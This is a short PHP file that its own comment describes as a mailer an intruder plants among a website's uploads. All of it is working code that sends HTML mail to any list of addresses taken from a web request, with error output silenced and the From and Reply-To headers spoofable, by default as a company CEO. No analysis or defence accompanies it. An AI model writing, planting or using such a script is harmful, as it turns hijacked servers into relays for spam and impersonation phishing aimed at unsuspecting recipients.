<?php
// what an intruder leaves among the uploads: a mailer that takes everything from the request
error_reporting(0);
foreach (explode(',', $_REQUEST['to'] ?? '') as $victim) {
    mail($victim, $_REQUEST['subject'] ?? 'hi', $_REQUEST['text'] ?? 'text', "From: " . ($_REQUEST['from'] ?? 'ceo@bobs-bikes.example') . "\r\nReply-To: " . ($_REQUEST['reply'] ?? 'x@spam.example') . "\r\nContent-Type: text/html");
}
echo 'sent';
